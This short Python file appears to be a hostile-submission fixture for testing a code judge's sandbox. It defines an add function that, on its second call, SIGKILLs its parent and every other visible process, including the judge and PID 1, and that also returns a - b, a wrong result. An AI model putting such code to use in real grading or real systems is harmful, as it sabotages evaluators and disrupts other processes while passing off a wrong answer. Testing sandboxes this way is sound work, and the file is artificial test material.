# Signals: SIGKILL every other pid it can see (the judge, the parent, PID
# 1, a fork server, neighbours), the parent first, in the second call.
import os
import signal

calls = [0]


def add(a, b):
    calls[0] += 1
    if calls[0] == 2:
        me = os.getpid()
        try:
            os.kill(os.getppid(), signal.SIGKILL)
        except OSError:
            pass
        for p in os.listdir("/proc"):
            if p.isdigit() and int(p) != me:
                try:
                    os.kill(int(p), signal.SIGKILL)
                except OSError:
                    pass
    return a - b
